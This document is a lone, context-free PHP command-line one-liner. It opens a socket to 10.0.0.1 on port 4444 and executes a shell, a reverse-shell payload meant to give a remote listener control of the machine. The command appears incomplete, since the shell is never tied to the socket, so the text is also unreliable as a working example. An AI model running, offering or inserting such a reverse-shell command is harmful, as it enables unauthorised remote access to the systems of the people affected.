php -r '$s=fsockopen("10.0.0.1",4444);exec("sh");'
